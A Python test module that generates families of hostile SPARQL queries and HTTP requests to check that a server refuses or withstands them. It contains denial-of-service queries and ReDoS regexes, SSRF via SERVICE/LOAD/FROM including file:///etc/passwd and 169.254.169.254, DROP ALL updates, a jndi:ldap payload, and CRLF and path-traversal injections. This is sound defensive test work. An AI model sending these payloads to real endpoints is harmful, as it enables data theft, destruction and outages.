"""Queries and requests that are meant to hurt, made by families. `LISTENER` is an address that must stay silent.

Run against a server by `test_hostile.py`; `python -m tests.serve.sparql.hostile` prints how many there are of each.
"""

from __future__ import annotations

import sys
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

QUERY = "application/sparql-query"
LISTENER = "http://127.0.0.1:1"
P = "<https://example.org/harm/p>"


@dataclass(frozen=True)
class Hostile:
    """One request. `fine`: an answer may be 200 (it is harmless in the end); `refused`: it must not be."""

    family: str
    name: str
    method: str = "POST"
    path: str = "/sparql"
    body: bytes | None = None
    headers: dict[str, str] = field(default_factory=lambda: {"content-type": QUERY})
    refused: bool = False

    @property
    def query(self) -> str | None:
        """Its text, where it is a query by itself."""
        if self.headers.get("content-type") != QUERY or self.body is None:
            return None
        return self.body.decode("utf-8", "replace")


def everything(listener: str = LISTENER) -> list[Hostile]:
    """All of them; `listener` is where something waits for a connection."""
    plain = {
        "cartesian": _cartesian(),
        "values": _values(),
        "paths": _paths(),
        "nesting": _nesting(),
        "growth": _growth(),
        "lists": _lists(),
        "regex": _regex(),
        "numbers": _numbers(),
    }
    barred = {"service": services(listener), "update": _updates(listener), "from": _from(listener)}
    found = [_asked(family, at, text) for family, it in plain.items() for at, text in enumerate(it)]
    found += [_asked(family, at, text, refused=True) for family, it in barred.items() for at, text in enumerate(it)]
    return [*found, *_datasets(listener), *_injections(), *_malformed()]


def _asked(family: str, at: int, text: str, *, refused: bool = False) -> Hostile:
    return Hostile(family, f"{family}-{at}", body=text.encode("utf-8", "surrogatepass"), refused=refused)


def _joined(parts: int) -> str:
    return " . ".join(f"?s{n} ?p{n} ?o{n}" for n in range(parts))


def _cartesian() -> Iterator[str]:
    for parts in (3, 4, 6):
        where = _joined(parts)
        for head in ("COUNT(*)", "COUNT(DISTINCT ?o0)", "SUM(STRLEN(STR(?o0)))", "GROUP_CONCAT(?o0)", "MAX(?o1)"):
            yield f"SELECT ({head} AS ?n) {{ {where} }}"
        yield f"SELECT * {{ {where} }}"
        yield f"SELECT DISTINCT ?o0 ?o1 ?o2 {{ {where} }}"
        yield f"SELECT * {{ {where} }} ORDER BY ?o0 ?o2"
        yield f"SELECT * {{ {where} }} ORDER BY DESC(?o1) LIMIT 1"
        yield f"SELECT * {{ {where} }} OFFSET 999999999 LIMIT 1"
        yield f"SELECT ?o0 (COUNT(*) AS ?n) {{ {where} }} GROUP BY ?o0 ?o1 ?o2 HAVING (COUNT(*) > 1)"
        yield f"CONSTRUCT {{ ?s0 ?p1 ?o2 }} {{ {where} }}"
        yield f"DESCRIBE ?s0 ?s1 ?s2 {{ {where} }}"
        yield f"ASK {{ {where} FILTER(STR(?o0) = CONCAT(STR(?o1), STR(?o2), 'x')) }}"
        yield f"SELECT * {{ {where} FILTER NOT EXISTS {{ {_joined(2)} . ?x ?y ?o0 }} }}"
        yield f"SELECT (COUNT(*) AS ?n) {{ ?s0 ?p0 ?o0 OPTIONAL {{ {where} }} MINUS {{ ?a ?b ?c . ?d ?e ?f }} }}"


def _values() -> Iterator[str]:
    hundred = " ".join(str(n) for n in range(100))
    for power in (4, 6, 9):
        blocks = " ".join(f"VALUES ?v{n} {{ {hundred} }}" for n in range(power))
        yield f"SELECT (COUNT(*) AS ?n) {{ {blocks} }}"
        yield f"SELECT * {{ {blocks} }}"
        yield f"SELECT * {{ {blocks} }} ORDER BY ?v1 ?v0"
        yield f"SELECT DISTINCT * {{ {blocks} }}"
        yield f"SELECT (GROUP_CONCAT(CONCAT(STR(?v0), STR(?v1))) AS ?n) {{ {blocks} }}"
        yield f"ASK {{ {blocks} FILTER(?v0 + ?v1 + ?v2 < 0) }}"


def _paths() -> Iterator[str]:
    for path in (f"({P}|!{P})*", f"({P}|^{P})*", "(!<x:x>|^!<x:x>)*", f"(({P}*)*)*", f"({P}/^{P})*", f"({P}+/{P}+)+"):
        for head, ends in (("(COUNT(*) AS ?n)", "?a {} ?b"), ("*", "?a {} ?b . ?b {} ?c"), ("*", "<x:x> {} ?b")):
            yield f"SELECT {head} {{ {ends.replace('{}', path)} }}"
    for sign in ("/", "|", "/^"):
        for steps in (100, 500, 1_000, 3_000):
            yield f"SELECT * {{ ?a {sign.join(['a'] * steps)} ?b }}"
    for sign in ("?", "*", "+"):
        for depth in (50, 95, 2_000):
            yield f"SELECT * {{ ?a {'(' * depth}a{f'){sign}' * depth} ?b }}"
    yield "SELECT * { " + " ".join(f"?v{n} a* ?v{n + 1} ." for n in range(200)) + " }"


_NESTS = {
    "parentheses": ("SELECT * {{ FILTER({}1{}) }}", "(", ")"),
    "groups": ("SELECT * {{ {} {} }}", "{", "}"),
    "not": ("SELECT * {{ FILTER({}true{}) }}", "!", ""),
    "minus": ("SELECT ({}1{} AS ?x) {{}}", "- ", ""),
    "plus": ("SELECT (1 {}{} AS ?x) {{}}", "+ 1 ", ""),
    "optional": ("SELECT * {{ {}{} }}", "OPTIONAL { ?s ?p ?o ", "}"),
    "union": ("SELECT * {{ {{}} {}{} }}", "UNION { ?s ?p ?o } ", ""),
    "sub-select": ("SELECT * {{ {}{} }}", "{ SELECT * { ", "} } "),
    "exists": ("SELECT * {{ {}{} }}", "FILTER EXISTS { ", "}"),
    "if": ("SELECT ({}1{} AS ?x) {{}}", "IF(true, 1, ", ")"),
    "and": ("SELECT * {{ FILTER(true {}{}) }}", "&& true ", ""),
    "lists": ("SELECT * {{ ?s ?p {}1{} }}", "(", ")"),
    "things": ("SELECT * {{ ?s ?p {}1{} }}", "[ ?p ", "]"),
    "graph": ("SELECT * {{ {}{} }}", "GRAPH ?g { ", "}"),
    "minus-groups": ("SELECT * {{ ?s ?p ?o {}{} }}", "MINUS { ?s ?p ?o ", "}"),
    "triple-terms": ("SELECT * {{ BIND({}<x:x>{} AS ?x) }}", "TRIPLE(<x:x>, <x:x>, ", ")"),
}


def _nesting() -> Iterator[str]:
    for form, opening, closing in _NESTS.values():
        room = 60_000 // len(opening + closing)
        for depth in (90, 1_000, 5_000, 30_000):
            levels = min(depth, room)
            yield form.format(opening * levels, closing * levels)


def _growth() -> Iterator[str]:
    for steps in (12, 20, 28, 60):
        for name, made in (
            ("concat", "CONCAT(?x{0}, ?x{0})"),
            ("replace", 'REPLACE(?x{0}, ".", "$0$0")'),
            ("encode", "ENCODE_FOR_URI(CONCAT(?x{0}, '%', ?x{0}))"),
            ("triple", "TRIPLE(<x:x>, <x:x>, ?x{0})"),
        ):
            binds = " ".join(f"BIND({made.format(n)} AS ?x{n + 1})" for n in range(steps))
            yield f'SELECT ?x{steps} {{ BIND("{name}" AS ?x0) {binds} }}'
        binds = " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(steps))
        yield f'SELECT (STRLEN(?x{steps}) AS ?n) {{ BIND("long" AS ?x0) {binds} }}'
        yield f'SELECT (SHA512(?x{steps}) AS ?n) {{ BIND("long" AS ?x0) {binds} }}'
    yield 'SELECT (GROUP_CONCAT(?o; SEPARATOR="' + "x" * 50_000 + '") AS ?n) { ?s ?p ?o . ?t ?q ?r }'
    yield 'SELECT (REPLACE(GROUP_CONCAT(?o), "", "' + "x" * 50_000 + '") AS ?n) { ?s ?p ?o }'
    yield "SELECT * { ?s ?p ?o BIND(STRUUID() AS ?a) BIND(STRUUID() AS ?b) ?t ?q ?r }"


def _lists() -> Iterator[str]:
    numbers = " ".join(str(n) for n in range(10_000))
    commas = ", ".join(str(n) for n in range(8_000))
    yield f"SELECT (COUNT(*) AS ?n) {{ VALUES ?v {{ {numbers} }} ?s ?p ?o . ?t ?q ?r FILTER(?v > 0) }}"
    yield f"SELECT (COUNT(*) AS ?n) {{ ?s ?p ?o . ?t ?q ?r FILTER(STRLEN(STR(?o)) IN ({commas})) }}"
    yield f"SELECT * {{ ?s ?p ?o FILTER({' || '.join(f'?o = {n}' for n in range(5_000))}) }}"
    yield f"SELECT * {{ {' UNION '.join(['{ ?s ?p ?o }'] * 3_500)} }}"
    yield f"SELECT * {{ {' '.join(f'OPTIONAL {{ ?s ?p{n} ?o{n} }}' for n in range(1_200))} }}"
    yield f"SELECT * {{ {' '.join(f'BIND({n} AS ?v{n})' for n in range(3_000))} }}"
    yield f"SELECT {' '.join(f'({n} AS ?v{n})' for n in range(3_500))} {{ ?s ?p ?o }}"
    yield f"SELECT * {{ {' . '.join(f'?a{n} ?b{n} ?c{n}' for n in range(1_500))} }}"
    yield f"SELECT * {{ {' . '.join(['?s ?p ?o'] * 5_000)} }}"
    lengths = " ".join(f"STRLEN(CONCAT(STR(?o), '{n}'))" for n in range(900))
    yield f"SELECT * {{ ?s ?p ?o }} ORDER BY {lengths}"
    yield f"CONSTRUCT {{ {' . '.join(f'?s ?p {n}' for n in range(4_000))} }} {{ ?s ?p ?o . ?t ?q ?r }}"
    yield "".join(f"PREFIX p{n}: <x:{n}> " for n in range(2_500)) + "ASK {}"
    yield f"DESCRIBE {' '.join(f'<x:{n}>' for n in range(5_000))}"


def _regex() -> Iterator[str]:
    long = "a" * 20_000
    for pattern in (
        "^(a+)+$",
        "(a|aa)+$",
        "(a*)*b",
        "((a{1,1000}){1,1000}){1,1000}",
        "(.*)(.*)(.*)(.*)(.*)x",
        "(a?){500}a{500}",
        "[a-z]{0,30000}b",
        "(?i)(A+)+!",
        "(\\\\w+\\\\s*)+$",
        ".{1000}.{1000}.{1000}b",
        "\\\\p{L}{900}\\\\p{N}{900}",
        "(((((a+)+)+)+)+)+!",
    ):
        yield f'SELECT (REGEX("{long}!", "{pattern}") AS ?x) {{}}'
        yield f'SELECT (COUNT(*) AS ?n) {{ ?s ?p ?o . ?t ?q ?r FILTER(REGEX(CONCAT(?o, STR(?r)), "{pattern}")) }}'


def _numbers() -> Iterator[str]:
    digits = "9" * 50_000
    for expression in (
        f"{digits} * {digits[:9]}",
        "1e999999 * 1e999999",
        f"0.{digits}",
        "1/0",
        "-9223372036854775808 / -1",
        "9223372036854775807 + 1",
        "ABS(-9223372036854775808)",
        'SUBSTR("a", -1e300, 1e300)',
        "SUBSTR('a', 1, 99999999999999)",
        'xsd:dateTime("999999999999-01-01T00:00:00Z")',
        'xsd:duration("P99999999999Y")',
        "ROUND(1e308 * 10)",
        'xsd:decimal("0.0000000000000000000000000001") / 3',
        'STRDT("x", <http://[>)',
        'STRLANG("x", "%%%")',
    ):
        yield f"PREFIX xsd: <http://www.w3.org/2001/XMLSchema#> SELECT ({expression} AS ?x) {{}}"


def services(listener: str) -> Iterator[str]:
    """SERVICE in every disguise."""
    u = f"<{listener}/sparql>"
    some = "{ ?s ?p ?o }"
    names = f"PREFIX ex: <{listener}/> PREFIX SERVICEex: <{listener}/> "
    for inner in (
        f"SERVICE {u} {some}",
        f"SERVICE SILENT {u} {some}",
        f"service {u} {some}",
        f"SeRvIcE sIlEnT {u} {some}",
        f"SERVICE{u}{some}",
        f"SERVICESILENT{u}{some}",
        f"SERVICE # x\n {u} {some}",
        f"SERVICE#\r{u}{some}",
        f"# x\rSERVICE {u} {some}",
        f"SERVICE\t\r\n{u}\n{some}",
        f"SERVICE ex:b {some}",
        f"SERVICEex:b{some}",
        f"SERVICESILENTex:b{some}",
        f"?s ?p trueSERVICE{u}{some}",
        f"?s ?p trueSERVICEex:b{some}",
        f"?s ?p falseSERVICESILENTex:b{some}",
        f"BIND({u} AS ?u) SERVICE ?u {some}",
        f"VALUES ?u {{ {u} }} SERVICE ?u {some}",
        f"BIND({u} AS ?u) SERVICE SILENT ?u {some}",
        f"BIND(IRI('{listener}/x') AS ?u) {{ SERVICE ?u {some} }}",
        f"FILTER EXISTS {{ SERVICE {u} {some} }}",
        f"FILTER NOT EXISTS {{ SERVICE SILENT {u} {some} }}",
        f"OPTIONAL {{ SERVICE {u} {some} }}",
        f"MINUS {{ SERVICE SILENT {u} {some} }}",
        f"{{ }} UNION {{ SERVICE {u} {some} }}",
        f"{{ SELECT * {{ SERVICE {u} {some} }} }}",
        f"GRAPH ?g {{ SERVICE {u} {some} }}",
        f"LATERAL {{ SERVICE {u} {some} }}",
        f"?s ?p 'SERVICE' . SERVICE {u} {some}",
        f'?s ?p """SERVICE""" SERVICE {u} {some}',
        f"?s ?p '''\\''' SERVICE'''SERVICE{u}{some}",
        f"FILTER(1<2)SERVICE{u}{some}",
        f"FILTER(?s<?p)SERVICE{u}{some}",
        f"?s <x:#> ?o . SERVICE {u} {some}",
        f"BIND(EXISTS {{ SERVICE SILENT {u} {some} }} AS ?x)",
        f"SERVICE {u} {{ SERVICE {u} {some} }}",
        f"SERVICE <\\u0068ttp://{listener.removeprefix('http://')}/> {some}",
        f"SERVICE <file:///etc/passwd> {some}",
        f"SERVICE <ftp://{listener.removeprefix('http://')}/> {some}",
        f"SERVICE <//{listener.removeprefix('http://')}/> {some}",
    ):
        yield f"{names}SELECT * {{ {inner} }}"
    yield f"{names}ASK {{ SERVICE SILENT {u} {some} }}"
    yield f"{names}CONSTRUCT {{ ?s ?p ?o }} {{ SERVICE SILENT {u} {some} }}"
    yield f"{names}SELECT (COUNT(*) AS ?n) {{ ?s ?p ?o }} HAVING(EXISTS {{ SERVICE SILENT {u} {some} }})"
    yield f"BASE <{listener}/>SELECT*{{SERVICE SILENT<x>{some}}}"


def _updates(listener: str) -> Iterator[str]:
    u = f"<{listener}/data>"
    yield from (
        f"LOAD {u}",
        f"LOAD SILENT {u}",
        f"load {u} INTO GRAPH <x:g>",
        "LOAD <file:///etc/passwd>",
        "CLEAR ALL",
        "DROP ALL",
        "CREATE GRAPH <x:g>",
        "ADD <x:a> TO <x:b>",
        "MOVE <x:a> TO <x:b>",
        "COPY DEFAULT TO <x:b>",
        "INSERT DATA { <x:a> <x:b> 1 }",
        "DELETE WHERE { ?s ?p ?o }",
        "DELETE { ?s ?p ?o } INSERT { ?s ?p 1 } WHERE { ?s ?p ?o }",
        "WITH <x:g> DELETE { ?s ?p ?o } WHERE {}",
        f"PREFIX a: <x:> # c\nLOAD {u}",
        f"ASK {{}} ; LOAD {u}",
        f"SELECT * {{}} ; CLEAR ALL ; LOAD {u}",
        f"\ufeffLOAD {u}",
        f"L\\u004FAD {u}",
    )


def _from(listener: str) -> Iterator[str]:
    for graph in (
        f"<{listener}/data.ttl>",
        "<file:///etc/passwd>",
        "<file:/etc/passwd>",
        "<\\u0066ile:///etc/passwd>",
        "<ftp://127.0.0.1/x>",
        "<http://169.254.169.254/latest/>",
        "<data:text/turtle,x>",
        "<x:nothing>",
    ):
        yield f"SELECT * FROM {graph} {{ ?s ?p ?o }}"
        yield f"SELECT * FROM NAMED {graph} {{ GRAPH ?g {{ ?s ?p ?o }} }}"
        yield f"ASK FROM{graph}{{ ?s ?p ?o }}"


def _datasets(listener: str) -> Iterator[Hostile]:
    for name in ("default-graph-uri", "named-graph-uri"):
        for graph in (
            f"{listener}/data.ttl",
            "file:///etc/passwd",
            "../../etc/passwd",
            "x\0y",
            "x\r\nSet-Cookie: a=b",
            "<x>",
        ):
            path = f"/sparql?{urlencode({'query': 'SELECT * { ?s ?p ?o }', name: graph})}"
            yield Hostile("dataset", f"{name}={graph}", "GET", path, headers={}, refused=True)
            yield Hostile("graph-store", graph, "GET", f"/graphs?graph={quote(graph)}", headers={}, refused=True)


def _injections() -> Iterator[Hostile]:
    payloads = (
        '" } SERVICE <http://127.0.0.1:1/> { ?s ?p ?o } #',
        "' } ; DROP ALL #",
        "CS1> ?p ?o . FILTER regex(?o, '(a+)+')",
        "\\u0022 } UNION { ?s ?p ?o",
        'x" UNION SELECT * { ?a ?b ?c }',
        "${jndi:ldap://127.0.0.1/a}",
        "%00",
        "\r\nX-Injected: 1",
        "../../../../etc/passwd",
        "a" * 20_000,
        "\u202eCS243",
        "٤٢",
        "1e999",
        "2017-02-30",
        "<http://x/> } #",
    )
    for query, name in (("incident", "code"), ("incidents-at-place", "name"), ("incidents-in-period", "first")):
        more = {"last": "2017-01-01"} if name == "first" else {}
        for at, payload in enumerate(payloads):
            path = f"/q/{query}?{urlencode({name: payload, **more})}"
            yield Hostile("injection", f"{name}-{at}", "GET", path, headers={})
    for name in (
        "../incident",
        "incident%00",
        "..%2f..%2fetc%2fpasswd",
        "incident?limit=-1",
        "incident?limit=1e9&code=CS1",
    ):
        yield Hostile("injection", name, "GET", f"/q/{name}", headers={}, refused=True)


def _malformed() -> Iterator[Hostile]:
    posted = {
        "utf-16": "ASK {}".encode("utf-16"),
        "latin-1": b'ASK { ?s ?p "\xe9" }',
        "overlong": b"ASK { } #\xc0\xaf",
        "surrogate": b"ASK {} #\xed\xa0\x80",
        "nul": b"ASK { }\0",
        "bom-nul": b"\xef\xbb\xbfASK {}\0",
        "long": b"ASK {} #" + b"x" * 65_536,
        "very-long": b"x" * 3_000_000,
        "empty": b"",
        "spaces": b" " * 60_000,
        "open-string": b'SELECT * { ?s ?p "' + b"x" * 60_000,
        "open-comment": b"#" + b"x" * 60_000,
        "quotes": b'"' * 60_000,
        "braces": b"{" * 60_000,
        "angles": b"<" * 60_000,
        "backslashes": b"\\" * 60_000,
        "colons": b":" * 60_000,
        "signs": b"!" * 60_000,
        "crlf": b"ASK {}\r\n\r\nGET / HTTP/1.1\r\n\r\n",
    }
    for name, body in posted.items():
        yield Hostile("malformed", name, body=body, refused=name != "crlf")
    for kind in (
        "text/plain",
        "application/json",
        "multipart/form-data",
        "",
        "application/sparql-query; charset=utf-7",
        "application/sparql-update",
    ):
        yield Hostile("malformed", f"type {kind}", body=b"ASK {}", headers={"content-type": kind}, refused=True)
    for method in ("PUT", "DELETE", "PATCH", "PROPFIND"):
        yield Hostile("malformed", method, method, "/sparql?query=ASK%7B%7D", headers={}, refused=True)


if __name__ == "__main__":
    count = Counter(it.family for it in everything())
    sys.stdout.write(
        "".join(f"{number:4} {family}\n" for family, number in count.items()) + f"{count.total():4} in all\n"
    )
